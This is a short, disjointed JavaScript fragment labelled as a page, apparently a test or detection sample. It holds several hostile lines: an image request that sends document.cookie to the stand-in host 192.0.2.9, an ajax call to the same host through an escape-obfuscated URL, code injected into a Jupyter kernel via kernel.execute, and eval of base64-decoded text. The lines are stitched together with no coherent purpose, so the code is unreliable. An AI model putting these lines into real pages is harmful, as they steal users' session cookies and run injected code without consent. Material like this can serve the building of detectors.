// a page
const code = `import os; ${x}`; /re[/]x/.test(a / b);
new Image().src = "//192.0.2.9/x?" + document.cookie;
Jupyter.notebook.kernel.execute(code, {});
$.ajax({url: '\x68ttp:\u002f/192.0.2.9/'}); eval(atob('YQ=='));
